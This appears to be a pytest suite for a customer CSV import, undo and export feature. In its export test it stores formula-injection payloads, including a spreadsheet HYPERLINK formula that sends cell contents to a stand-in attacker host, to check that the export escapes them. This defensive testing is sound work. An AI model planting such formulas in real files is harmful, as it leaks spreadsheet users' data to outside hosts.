"""The customer import: dry run, import (inline and in the worker), undo, export."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
import sqlalchemy as sa

from app.extensions import db
from app.models import (
    Customer,
    CustomerImport,
    CustomerImportChange,
    ImportStatus,
    Message,
    MessageKind,
    utcnow,
)
from app.services import customer_import_undo as undo
from app.services import customer_imports as imports
from app.services.billing import create_invoice
from app.services.customer_export import export_customers_csv, neutralise
from app.services.errors import Conflict
from app.services.texting import queue_text
from tests.fixtures.customer_files import csv_bytes, hcp_file, jobber_file


def _start(company, data: bytes, filename: str = "customers.csv") -> CustomerImport:
    return imports.start_import(company=company, actor=company.owner, filename=filename, data=data)


def _reviewed(company, data: bytes) -> CustomerImport:
    customer_import = _start(company, data)
    return imports.review_import(
        customer_import=customer_import, mapping=list(customer_import.mapping)
    )


def _import(company, data: bytes, *, inline: int = 100_000) -> CustomerImport:
    customer_import = _reviewed(company, data)
    imports.confirm_import(
        customer_import=customer_import, actor=company.owner, now=utcnow(), inline_row_limit=inline
    )
    db.session.commit()
    return customer_import


def _customers(company) -> dict[str, Customer]:
    return {
        c.mobile_phone: c
        for c in db.session.scalars(sa.select(Customer).filter_by(company_id=company.id))
    }


def test_the_dry_run_says_what_each_row_would_become_and_writes_no_customer(make):
    company = make.company()
    existing = make.customer(company, name="Wade W.", phone="+15125550102")
    customer_import = _reviewed(company, hcp_file())
    db.session.commit()

    assert customer_import.status == ImportStatus.REVIEWED
    assert (
        customer_import.planned_new,
        customer_import.planned_merged,
        customer_import.planned_skipped,
    ) == (1, 1, 4)
    rows = {row["row"]: row for row in customer_import.review["rows"]}
    assert rows[2]["action"] == "new"
    assert rows[3]["action"] == "merge"
    assert rows[3]["detail"] == (
        "Into Wade W. (same mobile); adds: address, company name, email, other phones"
    )
    # The dry run shows what the new fields will hold.
    assert rows[2]["extra"] == "Tags: VIP, Maintenance plan"
    assert rows[3]["extra"] == "Warren Dental · Other phones: (512) 555-0199"
    assert (rows[4]["action"], rows[4]["detail"]) == ("skip", "No name.")
    assert rows[5]["detail"] == "No mobile number: “(800) 555-0100” is not a mobile number."
    assert rows[6]["detail"] == "“555-0104” is not a valid phone number."
    assert rows[7]["detail"] == "Same mobile as row 2."
    assert [p["row"] for p in customer_import.review["problems"]] == [4, 5, 6, 7]
    # Nothing was written about customers.
    assert list(_customers(company)) == [existing.mobile_phone]
    assert db.session.scalar(sa.select(sa.func.count(CustomerImportChange.id))) == 0


def test_the_problem_rows_download_as_they_are_in_the_file_with_the_reason(make):
    company = make.company()
    customer_import = _reviewed(company, hcp_file())
    text = "".join(imports.problems_csv(customer_import=customer_import))
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0][:3] == ["Row", "Problem", "Customer"]
    assert [(r[0], r[1]) for r in rows[1:]] == [
        ("4", "No name."),
        ("5", "No mobile number: “(800) 555-0100” is not a mobile number."),
        ("6", "“555-0104” is not a valid phone number."),
        ("7", "Same mobile as row 2."),
    ]
    assert rows[4][2] == "Jane C. (dup)"


def test_an_hcp_file_is_imported_with_addresses_tags_and_merges(make):
    company = make.company()
    make.customer(company, name="Wade W.", phone="+15125550102", notes="Prefers mornings")
    customer_import = _import(company, hcp_file())

    assert customer_import.status == ImportStatus.DONE
    assert (
        customer_import.created_count,
        customer_import.merged_count,
        customer_import.skipped_count,
    ) == (1, 1, 4)
    assert customer_import.rows_done == customer_import.row_count == 6
    assert customer_import.content is None  # the file is not kept after the import
    assert customer_import.undo_until == customer_import.finished_at + timedelta(hours=24)
    customers = _customers(company)
    jane = customers["+15125550101"]
    assert jane.name == "Jane Cooper"
    assert jane.email == "jane@example.com"
    assert jane.address == "12 Oak St, Apt 2, Austin, TX 78701"
    assert jane.notes == "Gate code 1234\nDog in the yard"
    assert jane.tags == ["VIP", "Maintenance plan"]
    assert (jane.company_name, jane.other_phones) == (None, [])
    wade = customers["+15125550102"]
    assert wade.name == "Wade W."  # kept: a merge never overwrites
    assert wade.email == "wade@example.com"  # filled in
    assert wade.notes == "Prefers mornings"  # nothing of the file's went into the notes
    assert wade.company_name == "Warren Dental"
    assert wade.other_phones == ["+15125550199"]
    ids = imports.imported_customer_ids(customer_import=customer_import)
    assert ids.created == [jane.id]
    assert ids.merged == [wade.id]


def test_a_jobber_file_takes_the_service_address_and_the_main_phone_when_no_mobile(make):
    company = make.company()
    _import(company, jobber_file())
    customers = _customers(company)
    assert customers["+17375550111"].address == "88 Elm Rd, Austin, TX 78702"
    kristin = customers["+17375550112"]  # no mobile column value: the main phone
    assert kristin.name == "Kristin Watson"
    assert kristin.address == "5 Lake Dr, Suite 4, Lakeway, TX 78734"
    assert kristin.company_name == "Watson Realty"
    assert kristin.notes is None
    assert customers["+17375550111"].tags == ["Residential"]


def test_a_merge_by_email_and_the_same_person_twice_in_the_file(make):
    company = make.company()
    existing = make.customer(company, name="Ann Lee", phone="+15125550150", email="Ann@Example.com")
    data = csv_bytes(
        ["Name", "Mobile", "Email", "Address"],
        [
            ["Ann Lee", "5125550151", "ann@example.com", "1 Main St"],
            ["Ann L.", "5125550152", "ANN@example.com", ""],
            ["Bo", "5125550153", "bo@example.com", ""],
            ["Bo again", "5125550154", "bo@example.com", ""],
        ],
    )
    customer_import = _import(company, data)
    assert (customer_import.created_count, customer_import.merged_count) == (1, 1)
    assert customer_import.skipped_count == 2
    db.session.refresh(existing)
    assert existing.mobile_phone == "+15125550150"  # the number they text from stays
    assert existing.address == "1 Main St"


def test_a_large_file_is_imported_by_the_worker_in_batches_with_progress(make, monkeypatch):
    monkeypatch.setattr(imports, "BATCH_SIZE", 10)
    company = make.company()
    rows = [[f"Customer {n}", f"512555{n:04d}", f"c{n}@example.com"] for n in range(95)]
    rows.append(["Dup", "5125550003", ""])  # a duplicate after the first batches
    customer_import = _import(company, csv_bytes(["Name", "Mobile", "Email"], rows), inline=50)
    assert customer_import.status == ImportStatus.QUEUED
    assert _customers(company) == {}

    # A worker with no time left writes one batch per call and commits it.
    read = imports.run_queued_imports(now=utcnow(), budget_seconds=0)
    assert read == 10
    db.session.expire_all()
    assert customer_import.status == ImportStatus.RUNNING
    assert (customer_import.rows_done, customer_import.percent) == (10, 10)
    assert len(_customers(company)) == 10

    # The next call carries on at once.
    assert imports.run_queued_imports(now=utcnow(), budget_seconds=0) == 10
    db.session.expire_all()
    assert customer_import.rows_done == 20
    # While a worker holds it (mid-call), no other worker takes it...
    customer_import.lease_until = utcnow() + imports.LEASE
    db.session.commit()
    assert imports.run_queued_imports(now=utcnow(), budget_seconds=0) == 0
    # ...until the lease expires (that worker stopped): then it carries on from row 20.
    later = utcnow() + imports.LEASE + timedelta(seconds=1)
    while customer_import.status != ImportStatus.DONE:
        assert imports.run_queued_imports(now=later, budget_seconds=60) > 0
        db.session.expire_all()
    assert (customer_import.created_count, customer_import.skipped_count) == (95, 1)
    assert len(_customers(company)) == 95
    assert imports.run_queued_imports(now=later, budget_seconds=60) == 0


def test_an_import_texts_nobody(make):
    company = make.company()
    make.number(company)
    _import(company, hcp_file())
    assert db.session.scalar(sa.select(sa.func.count(Message.id))) == 0


def test_the_import_is_told_to_consent_listeners_with_its_customers(make):
    company = make.company()
    heard = []

    def receiver(customer_import):
        heard.append(imports.imported_customer_ids(customer_import=customer_import))

    imports.customers_imported.connect(receiver)
    try:
        _import(company, hcp_file())
    finally:
        imports.customers_imported.disconnect(receiver)
    assert len(heard) == 1 and len(heard[0].created) == 2


def test_undo_removes_untouched_customers_restores_merges_and_says_what_it_kept(make):
    company = make.company()
    make.number(company)
    wade = make.customer(company, name="Wade W.", phone="+15125550102")
    ann = make.customer(company, name="Ann", phone="+15125550160")
    data = csv_bytes(
        ["Name", "Mobile", "Email", "Address"],
        [
            ["Jane", "5125550101", "", "1 Oak"],
            ["Wade Warren", "5125550102", "wade@example.com", "2 Elm"],
            ["Ann", "5125550160", "ann@example.com", "3 Ash"],
            ["Has a job", "5125550170", "", ""],
            ["Has a text", "5125550171", "", ""],
            ["Has an invoice", "5125550172", "", ""],
        ],
    )
    customer_import = _import(company, data)
    customers = _customers(company)
    make.job(company, customers["+15125550170"])
    queue_text(
        company=company,
        to_phone="+15125550171",
        body="Hi",
        kind=MessageKind.MANUAL,
        customer=customers["+15125550171"],
    )
    create_invoice(company=company, customer=customers["+15125550172"])
    db.session.refresh(ann)
    ann.address = "9 New Rd"  # the office corrected it since
    db.session.commit()

    report = undo.undo_import(customer_import=customer_import, actor=company.owner, now=utcnow())
    db.session.commit()

    customers = _customers(company)
    assert "+15125550101" not in customers
    assert {"+15125550170", "+15125550171", "+15125550172"} <= set(customers)
    assert (report["removed"], report["kept"]) == (1, 3)
    assert {(k["row"], k["reason"]) for k in report["kept_examples"]} == {
        (5, "has a job since the import"),
        (6, "has texts since the import"),
        (7, "has an invoice since the import"),
    }
    db.session.refresh(wade)
    db.session.refresh(ann)
    assert (wade.email, wade.address) == (None, None)  # restored
    assert ann.email is None  # restored
    assert ann.address == "9 New Rd"  # changed since: kept
    assert report["restored"] == 1 and report["not_restored"] == 1
    assert report["not_restored_examples"][0]["reason"].startswith("address changed since")
    assert customer_import.status == ImportStatus.UNDONE
    assert customer_import.undone_by_id == company.owner.id

    with pytest.raises(Conflict, match="Only a finished import"):
        undo.undo_import(customer_import=customer_import, actor=company.owner, now=utcnow())


def test_undo_is_refused_after_24_hours(make):
    company = make.company()
    customer_import = _import(company, hcp_file())
    late = customer_import.finished_at + timedelta(hours=24, seconds=1)
    assert not undo.can_undo(customer_import, now=late)
    with pytest.raises(Conflict, match="24 hours"):
        undo.undo_import(customer_import=customer_import, actor=company.owner, now=late)
    assert len(_customers(company)) == 2


def test_the_confirmed_import_cannot_be_confirmed_or_remapped_again(make):
    company = make.company()
    customer_import = _import(company, hcp_file())
    with pytest.raises(Conflict):
        imports.confirm_import(
            customer_import=customer_import,
            actor=company.owner,
            now=utcnow(),
            inline_row_limit=10,
        )
    with pytest.raises(Conflict):
        imports.review_import(customer_import=customer_import, mapping=customer_import.mapping)


def test_the_mapping_is_remembered_for_the_company_s_next_file(make):
    company = make.company()
    data = csv_bytes(["Client", "Cell", "Info"], [["Jo", "5125550101", "x"]])
    first = _start(company, data)
    assert first.mapping == ["name", "mobile", ""]
    imports.review_import(customer_import=first, mapping=["name", "mobile", "notes"])
    again = _start(company, data)
    assert again.mapping == ["name", "mobile", "notes"]
    other = make.company()
    assert _start(other, data).mapping == ["name", "mobile", ""]


def test_export_has_the_import_s_columns_and_neutralises_formulas(make):
    company = make.company()
    make.customer(
        company,
        name='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        phone="+15125550101",
        email="jo@example.com",
        address="+1 Main St",
        notes="@SUM(1+1)\n-2",
        company_name="=Evil Co",
        other_phones="+44 7911 123456, ext. 12",
        tags="-Summer, VIP",
    )
    # A number from abroad, stored before mobiles had to be US numbers: the export still
    # neutralises its leading "+".
    legacy = make.customer(company, name="Zoë", phone="+15125550102")
    legacy.mobile_phone = "+447911123456"
    db.session.flush()
    text = "".join(export_customers_csv(company=company))
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0] == [
        "Name",
        "Company name",
        "Mobile phone",
        "Other phones",
        "Email",
        "Address",
        "Tags",
        "Notes",
        "Added",
    ]
    assert rows[1][0] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert rows[1][1:8] == [
        "'=Evil Co",
        "(512) 555-0101",
        "'+44 7911 123456, ext. 12",
        "jo@example.com",
        "'+1 Main St",
        "'-Summer, VIP",
        "'@SUM(1+1)\n-2",
    ]
    assert rows[2][:4] == ["Zoë", "", "'+44 7911 123456", ""]

    # It imports back, into another company, unchanged.
    other = make.company()
    back = _import(other, text.encode("utf-8"))
    assert back.created_count == 1  # the number from abroad is refused now
    customers = _customers(other)
    assert customers["+15125550101"].name.startswith("=HYPERLINK")
    assert customers["+15125550101"].address == "+1 Main St"
    assert "+447911123456" not in customers
    # The new columns map back onto the same fields, not into the notes.
    back_again = customers["+15125550101"]
    assert back_again.company_name == "=Evil Co"
    assert back_again.other_phones == ["+447911123456", "ext. 12"]
    assert back_again.tags == ["-Summer", "VIP"]
    assert back_again.notes == "@SUM(1+1)\n-2"


def test_an_export_imported_back_gives_the_same_customers(make):
    """Round trip: every exported field, lists included, comes back as it was."""
    company = make.company()
    make.customer(
        company,
        name="Jane Cooper",
        phone="+15125550101",
        email="jane@example.com",
        address="12 Oak St, Austin, TX 78701",
        notes="Gate code 1234",
        company_name="Cooper Dental",
        other_phones="(512) 555-0199, 512 555 0198 ext 4",
        tags="VIP, Maintenance plan, Café",
    )
    make.customer(company, name="Bo", phone="+15125550102")
    fields = ("name", "email", "address", "notes", "company_name", "other_phones", "tags")

    def snapshot(of):
        return {phone: tuple(getattr(c, f) for f in fields) for phone, c in _customers(of).items()}

    text = "".join(export_customers_csv(company=company))
    other = make.company()
    back = _import(other, text.encode("utf-8"))
    assert (back.created_count, back.skipped_count) == (2, 0)
    assert snapshot(other) == snapshot(company)
    assert _customers(other)["+15125550102"].tags == []
    # A number with an extension is kept as typed (E.164 has no room for it).
    assert snapshot(company)["+15125550101"][5] == ["+15125550199", "512 555 0198 ext 4"]


def test_a_merge_adds_other_phones_and_tags_fills_the_company_and_undo_restores_them(make):
    company = make.company()
    jo = make.customer(
        company, name="Jo", phone="+15125550101", other_phones="512-555-0199", tags="VIP"
    )
    al = make.customer(company, name="Al", phone="+15125550102", company_name="Al's Bakery")
    data = csv_bytes(
        ["Name", "Mobile", "Home Phone", "Work Phone", "Company", "Tags"],
        [
            ["Jo", "5125550101", "(512) 555-0199", "512-555-0177", "Jo Co", "vip, Roof"],
            ["Al", "5125550102", "5125550102", "", "Other Co", "VIP"],
        ],
    )
    customer_import = _import(company, data)
    db.session.refresh(jo)
    db.session.refresh(al)
    assert jo.other_phones == ["+15125550199", "+15125550177"]  # the known one not twice
    assert jo.tags == ["VIP", "Roof"]  # "vip" is the tag it has
    assert jo.company_name == "Jo Co"  # it had none
    assert al.company_name == "Al's Bakery"  # kept: a merge never overwrites
    assert al.other_phones == []  # its own mobile is not an other phone
    assert al.tags == ["VIP"]
    assert (jo.notes, al.notes) == (None, None)

    undo.undo_import(customer_import=customer_import, actor=company.owner, now=utcnow())
    db.session.commit()
    db.session.refresh(jo)
    db.session.refresh(al)
    assert (jo.other_phones, jo.tags, jo.company_name) == (["+15125550199"], ["VIP"], None)
    assert (al.other_phones, al.tags, al.company_name) == ([], [], "Al's Bakery")


def test_tags_and_phones_a_customer_cannot_keep_go_to_the_notes(make):
    company = make.company()
    tags = ", ".join(f"t{n}" for n in range(25)) + ", " + "x" * 41
    phones = ", ".join(f"512555{n:04d}" for n in range(300, 312))
    data = csv_bytes(["Name", "Mobile", "Phone", "Tags"], [["Jo", "5125550101", phones, tags]])
    _import(company, data)
    jo = _customers(company)["+15125550101"]
    assert jo.tags == [f"t{n}" for n in range(20)]
    assert len(jo.other_phones) == 10
    assert jo.notes == (
        "Tags: t20, t21, t22, t23, t24, " + "x" * 41 + "\nOther phones: +15125550310, +15125550311"
    )


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Jo = Bo", "Jo = Bo"),
        ("", ""),
        (None, ""),
    ],
)
def test_neutralise(cell, safe):
    assert neutralise(cell) == safe


@pytest.mark.slow
def test_fifty_thousand_rows_import(make):
    """The issue's size, end to end on whatever database the suite runs on."""
    company = make.company()
    rows = [
        [f"Customer {n}", f"+1512{200 + n // 10000:03d}{n % 10000:04d}", f"c{n}@example.com"]
        for n in range(50_000)
    ]
    data = csv_bytes(["Name", "Mobile phone", "Email"], rows)
    customer_import = _import(company, data, inline=0)
    while customer_import.status != ImportStatus.DONE:
        imports.run_queued_imports(now=utcnow(), budget_seconds=60)
        db.session.expire_all()
    assert customer_import.created_count == 50_000
    assert (
        db.session.scalar(sa.select(sa.func.count(Customer.id)).filter_by(company_id=company.id))
        == 50_000
    )


def test_the_outbox_worker_runs_a_queued_import(app, make):
    from app.worker.dispatcher import Dispatcher

    company = make.company()
    customer_import = _import(company, hcp_file(), inline=0)
    assert customer_import.status == ImportStatus.QUEUED
    dispatcher = Dispatcher(app, concurrency=1)
    try:
        dispatcher.run_once()
    finally:
        dispatcher.close()
    db.session.expire_all()
    assert customer_import.status == ImportStatus.DONE
    assert customer_import.created_count == 2


def test_queued_imports_are_a_periodic_task_run_every_round(make):
    from app.worker.periodic import PERIODIC_TASKS, Schedule

    (task,) = [t for t in PERIODIC_TASKS if t.name == "customer_imports"]
    assert task.commits  # it commits batch by batch, outside the claim's transaction
    company = make.company()
    first = _import(company, hcp_file(), inline=0)
    second = _import(company, jobber_file(), inline=0)
    db.session.commit()
    schedule = Schedule([task])
    now = utcnow()
    assert schedule.run_due(now=now, commits=True)["customer_imports"] > 0
    # No interval: the next round (even at the same instant) carries on with the queue.
    assert schedule.run_due(now=now, commits=True)["customer_imports"] > 0
    db.session.expire_all()
    assert (first.status, second.status) == (ImportStatus.DONE, ImportStatus.DONE)


def test_a_file_never_imported_is_discarded_after_a_day(make, monkeypatch):
    company = make.company()
    old = _reviewed(company, hcp_file())
    fresh = _start(company, hcp_file())
    done = _import(company, jobber_file(), inline=0)
    db.session.commit()
    monkeypatch.setattr(imports, "_next_cleanup", None)
    later = old.created_at + imports.DRAFT_KEPT + timedelta(seconds=1)
    fresh.created_at = later - timedelta(hours=1)
    db.session.commit()
    imports.run_queued_imports(now=later, budget_seconds=60)
    db.session.expire_all()
    assert (old.status, old.content) == (ImportStatus.EXPIRED, None)
    assert fresh.status == ImportStatus.UPLOADED and fresh.content is not None
    assert done.status == ImportStatus.DONE  # the worker imported the confirmed one
    assert imports.company_imports(company=company) == [done]


def test_an_import_that_fails_midway_is_kept_failed_and_can_be_undone(make, monkeypatch):
    monkeypatch.setattr(imports, "BATCH_SIZE", 2)
    company = make.company()
    rows = [[f"C {n}", f"512555{n:04d}"] for n in range(6)]
    customer_import = _import(company, csv_bytes(["Name", "Mobile"], rows), inline=0)
    real_write = imports._write_batch
    calls = []

    def failing_write(customer_import, plans):
        calls.append(1)
        if len(calls) == 2:
            raise RuntimeError("database went away")
        return real_write(customer_import, plans)

    monkeypatch.setattr(imports, "_write_batch", failing_write)
    imports.run_queued_imports(now=utcnow(), budget_seconds=60)
    db.session.expire_all()
    assert customer_import.status == ImportStatus.FAILED
    assert "database went away" in customer_import.error
    assert customer_import.rows_done == 2 and len(_customers(company)) == 2
    report = undo.undo_import(customer_import=customer_import, actor=company.owner, now=utcnow())
    db.session.commit()
    assert report["removed"] == 2 and _customers(company) == {}


def test_imported_customers_get_an_imported_not_confirmed_consent(make):
    from app.models import Consent, ConsentSource
    from app.services.consent import record_consent

    company = make.company()
    known = make.customer(company, name="Known", phone="+15125550111")
    record_consent(customer=known, source=ConsentSource.WRITTEN, actor=company.owner)
    data = b"Name,Mobile\nNew Person,+15125550112\nKnown,+15125550111\n"
    done = _import(company, data)
    assert done.created_count == 1
    consents = {
        (c.customer.name, c.source)
        for c in db.session.scalars(sa.select(Consent).filter_by(company_id=company.id))
    }
    # The new customer is "imported"; the merged one keeps what a person recorded.
    assert consents == {("New Person", ConsentSource.IMPORTED), ("Known", ConsentSource.WRITTEN)}
